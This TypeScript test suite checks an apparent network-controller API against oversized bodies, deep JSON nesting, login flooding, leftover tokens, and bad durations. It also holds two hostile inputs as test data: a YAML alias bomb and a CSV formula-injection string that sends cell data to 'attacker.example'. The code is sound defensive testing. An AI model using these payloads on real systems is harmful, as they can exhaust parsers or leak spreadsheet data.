/**
 * Shared API tests of the edges issue 13 found (run on every dialect by api.suite.ts): bounds per
 * request, unauthenticated bodies, credentials dying with their owner, and bad input answered in
 * the API's own error format (4xx, naming the field), changing nothing.
 */
import type { LightMyRequestResponse } from "fastify";
import { describe, expect, it } from "vitest";
import { MAX_LABELS, MAX_RESOURCES_PER_REQUEST } from "../../model/index.js";
import type { Controller, MakeController } from "../testing/api-harness.js";
import { corpController, corpYaml, NO_CREDENTIALS } from "../testing/api-harness.js";
import { enrollController, LAB_POLICY } from "../testing/enroll-fixture.js";
import { expectError, expectOk } from "../testing/expect-api.js";
import { MAX_JSON_DEPTH } from "./json-body.js";

const network = (i: number) => ({
  apiVersion: "hubwire/v1",
  kind: "Network",
  metadata: { name: `net-${i}` },
  spec: { cidr: `10.${(i >> 8) & 255}.${i & 255}.0/24` },
});

/** `hubwire_database_errors_total` as /metrics reports it. */
async function databaseErrors(c: Controller): Promise<number> {
  const r = await c.call(NO_CREDENTIALS, "GET", "/metrics");
  return Number(/^hubwire_database_errors_total (\d+)$/m.exec(r.body)?.[1]);
}

/** The issues' fields of an error answer. */
function fieldsOf(r: LightMyRequestResponse): string[] {
  const body = r.json() as { error: { issues?: Array<{ path: string }> } };
  return (body.error.issues ?? []).map((i) => i.path);
}

const BOMB = [
  'a: &a ["x","x","x","x","x","x","x","x","x"]',
  "b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]",
  "c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]",
  "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]",
  "e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]",
  "f: [*e,*e,*e,*e,*e,*e,*e,*e,*e]",
].join("\n");

export function hardeningApiSuite(make: MakeController): void {
  describe("request bounds and bad input (issue 13)", () => {
    it("refuses more resources per request than the bound, and too many labels, naming the limits", async () => {
      const c = await make();
      const items = Array.from({ length: MAX_RESOURCES_PER_REQUEST + 1 }, (_, i) => network(i));
      let error = expectError(
        await c.call(c.admin, "POST", "/api/v1/apply", { body: { items } }),
        "payload-too-large",
      );
      expect(error.message).toContain(`at most ${MAX_RESOURCES_PER_REQUEST}`);
      const yaml = items.map((n) => JSON.stringify(n)).join("\n---\n");
      error = expectError(
        await c.call(c.admin, "POST", "/api/v1/apply", { body: yaml }),
        "payload-too-large",
      );
      expect(error.message).toContain(`at most ${MAX_RESOURCES_PER_REQUEST}`);
      error = expectError(
        await c.call(c.admin, "POST", "/api/v1/import", { body: { format: "yaml", text: yaml } }),
        "payload-too-large",
      );
      expect(error.message).toContain(`at most ${MAX_RESOURCES_PER_REQUEST}`);

      const labels = Object.fromEntries(Array.from({ length: MAX_LABELS + 1 }, (_, i) => [`k${i}`, "v"]));
      const labelled = { ...network(1), metadata: { name: "net-1", labels } };
      error = expectError(
        await c.call(c.admin, "POST", "/api/v1/apply", { body: { items: [labelled] } }),
        "validation-failed",
      );
      expect(error.issues).toEqual([
        expect.objectContaining({
          path: "metadata.labels",
          message: `at most ${MAX_LABELS} labels are allowed`,
        }),
      ]);
      expect(await c.revision()).toBe(0);
    });

    it("reads login and enrollment bodies only when small, rate-limits login before parsing, limits nesting", async () => {
      const c = await enrollController(make);
      const big = JSON.stringify({ name: "admin", password: "x".repeat(8 * 1024) });
      expectError(
        await c.call(NO_CREDENTIALS, "POST", "/api/v1/login", { body: big, contentType: "application/json" }),
        "payload-too-large",
      );
      const join = await c.enrollApp!.inject({
        method: "POST",
        url: "/enroll/v1/join",
        headers: { "content-type": "application/json" },
        payload: JSON.stringify({ pad: "x".repeat(32 * 1024) }),
      });
      expectError(join, "payload-too-large");

      // Nested deeper than the limit: refused before it is parsed, naming the body.
      const deep = `${"[".repeat(MAX_JSON_DEPTH + 1)}${"]".repeat(MAX_JSON_DEPTH + 1)}`;
      const nested = await c.call(NO_CREDENTIALS, "POST", "/api/v1/login", {
        body: `{"name":"admin","password":${deep}}`,
        contentType: "application/json",
        remoteAddress: "192.0.2.50",
      });
      expect(expectError(nested, "bad-request").message).toContain(`deeper than ${MAX_JSON_DEPTH}`);

      // A body sent to no route is not read at all: not even its syntax is looked at.
      const unknown = await c.call(NO_CREDENTIALS, "POST", "/api/v1/no-such-route", {
        body: "{ not json",
        contentType: "application/json",
      });
      expectError(unknown, "not-found");

      // Once an address is over its limit, even an unparseable body is refused as rate-limited:
      // the limit is counted before the body is read.
      for (let i = 0; i < 20; i++) {
        await c.call(NO_CREDENTIALS, "POST", "/api/v1/login", {
          body: { name: `nobody${i}`, password: "wrong-password" },
          remoteAddress: "192.0.2.51",
        });
      }
      const limited = await c.call(NO_CREDENTIALS, "POST", "/api/v1/login", {
        body: "{ not json",
        contentType: "application/json",
        remoteAddress: "192.0.2.51",
      });
      expectError(limited, "rate-limited");
      expect(limited.headers["retry-after"]).toBe("60");
    });

    it("ends a disabled or deleted user's sessions and API tokens, and the tokens those made", async () => {
      const c = await make();
      await c.createUser("alice", "admin", "alice-password-0123");
      const alice = (await c.login("alice", "alice-password-0123")).credential;
      const made = await c.call(alice, "POST", "/api/v1/tokens", {
        body: { name: "alice-ci", role: "admin" },
      });
      expectOk(made, 201);
      const token = { kind: "bearer" as const, token: (made.json() as { token: string }).token };
      const child = await c.call(token, "POST", "/api/v1/tokens", {
        body: { name: "alice-child", role: "admin" },
      });
      expectOk(child, 201);
      const childToken = { kind: "bearer" as const, token: (child.json() as { token: string }).token };
      expectOk(await c.call(childToken, "GET", "/api/v1/me"));

      expectOk(await c.call(c.admin, "PATCH", "/api/v1/users/alice", { body: { disabled: true } }));
      expectError(await c.call(alice, "GET", "/api/v1/me"), "unauthenticated");
      expectError(await c.call(token, "GET", "/api/v1/me"), "unauthenticated");
      expectError(
        await c.call(childToken, "POST", "/api/v1/users", {
          body: { name: "mallory", role: "admin", password: "mallory-password-0123" },
        }),
        "unauthenticated",
      );
      // Re-enabling does not bring the tokens back.
      expectOk(await c.call(c.admin, "PATCH", "/api/v1/users/alice", { body: { disabled: false } }));
      expectError(await c.call(token, "GET", "/api/v1/me"), "unauthenticated");

      // Demoted: the tokens they made as an admin stop working too.
      await c.createUser("carol", "admin", "carol-password-0123");
      const carol = (await c.login("carol", "carol-password-0123")).credential;
      const carols = await c.call(carol, "POST", "/api/v1/tokens", {
        body: { name: "carol-ci", role: "admin" },
      });
      const carolToken = { kind: "bearer" as const, token: (carols.json() as { token: string }).token };
      expectOk(await c.call(c.admin, "PATCH", "/api/v1/users/carol", { body: { role: "viewer" } }));
      expectError(await c.call(carolToken, "GET", "/api/v1/me"), "unauthenticated");

      await c.createUser("bob", "admin", "bob-password-01234");
      const bob = (await c.login("bob", "bob-password-01234")).credential;
      const bobs = await c.call(bob, "POST", "/api/v1/tokens", { body: { name: "bob-ci", role: "admin" } });
      const bobToken = { kind: "bearer" as const, token: (bobs.json() as { token: string }).token };
      expectOk(await c.call(bobToken, "GET", "/api/v1/me"));
      expectOk(await c.call(c.admin, "DELETE", "/api/v1/users/bob"), 204);
      expectError(
        await c.call(bobToken, "POST", "/api/v1/users", {
          body: { name: "mallory", role: "admin", password: "mallory-password-0123" },
        }),
        "unauthenticated",
      );
      expectError(await c.call(bob, "GET", "/api/v1/me"), "unauthenticated");
      // Everyone else's credentials still work.
      expectOk(await c.call(c.tokens.admin.credential, "GET", "/api/v1/me"));
    });

    it("refuses overflowing and zero durations naming the field", async () => {
      const c = await enrollController(make);
      for (const ttl of ["99999999999d", "0s", "0d", `${"9".repeat(400)}s`]) {
        let r = await c.call(c.admin, "POST", "/api/v1/tokens", { body: { name: "t", role: "viewer", ttl } });
        expectError(r, "bad-request");
        expect(fieldsOf(r)).toContain("ttl");
        r = await c.call(c.admin, "POST", "/api/v1/join-tokens", { body: { policy: "lab", ttl } });
        expectError(r, "bad-request");
        expect(fieldsOf(r)).toContain("ttl");
        r = await c.call(c.admin, "POST", "/api/v1/apply", {
          body: LAB_POLICY.replace("approval: auto", `approval: auto\n  ttl: "${ttl}"`),
        });
        expectError(r, "validation-failed");
        expect(fieldsOf(r)).toContain("spec.ttl");
      }
      expectOk(
        await c.call(c.admin, "POST", "/api/v1/tokens", {
          body: { name: "t", role: "viewer", ttl: "3650d" },
        }),
        201,
      );
    });

    it("answers malformed requests with a 4xx in its own format, not counted as database errors", async () => {
      const c = await enrollController(make);
      const before = await databaseErrors(c);
      for (const app of [c.app, c.enrollApp!]) {
        for (const url of ["/healthz", "/api/v1/nodes", "/enroll/v1/join"]) {
          const r = await app.inject({
            method: "QUERY" as "GET",
            url,
            headers: { authorization: `Bearer ${c.tokens.admin.token}` },
          });
          // No route takes QUERY: refused before its (missing) body is looked at.
          expectError(r, "not-found");
        }
      }
      expect(await databaseErrors(c)).toBe(before);

      const long = await c.call(c.admin, "GET", `/api/v1/nodes/${"a".repeat(300)}`);
      expectError(long, "bad-request");
      expect(fieldsOf(long)).toContain("name");

      const jsonString = await c.call(c.admin, "POST", "/api/v1/tokens", {
        body: '"hello"',
        contentType: "application/json",
      });
      expectError(jsonString, "bad-request");
      const applyString = await c.call(c.admin, "POST", "/api/v1/apply", {
        body: '"kind: Network"',
        contentType: "application/json",
      });
      expectError(applyString, "bad-request");

      const revision = await c.revision();
      for (const body of ["", "null", "---\n", "# nothing\n"]) {
        const r = await c.call(c.admin, "POST", "/api/v1/apply", { body });
        expect(expectError(r, "bad-request").message).toContain("no resources");
      }
      expectError(await c.call(c.admin, "POST", "/api/v1/apply", { body: { items: [] } }), "bad-request");

      const bomb = expectError(
        await c.call(c.admin, "POST", "/api/v1/apply", { body: BOMB }),
        "validation-failed",
      );
      expect(bomb.issues?.[0]?.message).toContain("too many aliases");
      const imported = expectError(
        await c.call(c.admin, "POST", "/api/v1/import", {
          body: { format: "yaml", text: `${corpYaml()}\n---\n${BOMB}` },
        }),
        "validation-failed",
      );
      expect(imported.issues?.map((i) => i.message).join("\n")).toContain("too many aliases");
      expect(await c.revision()).toBe(revision);
      expect(await databaseErrors(c)).toBe(before);
    });

    it("exports nodes.csv with formula-like cells escaped, re-importing to no change", async () => {
      const c = await corpController(make);
      const node = (await c.call(c.admin, "GET", "/api/v1/nodes/branch-sha")).json() as {
        metadata: object;
        spec: Record<string, unknown>;
      };
      const description = '=HYPERLINK("https://attacker.example/?x="&A1,"open")';
      expectOk(
        await c.call(c.admin, "PUT", "/api/v1/nodes/branch-sha", {
          body: {
            apiVersion: "hubwire/v1",
            kind: "Node",
            metadata: node.metadata,
            spec: { ...node.spec, description },
          },
        }),
      );
      const csv = await c.call(c.tokens.viewer.credential, "GET", "/api/v1/export/nodes.csv");
      expectOk(csv);
      const line = csv.body.split("\n").find((l) => l.startsWith("branch-sha,"))!;
      expect(line).toContain(`"'=HYPERLINK(""https://attacker.example/?x=""&A1,""open"")"`);
      const again = await c.call(c.admin, "POST", "/api/v1/import?dryRun=true", {
        body: { format: "csv", text: csv.body },
      });
      expectOk(again);
      expect((again.json() as { changes: unknown[] }).changes).toEqual([]);
    });
  });
}
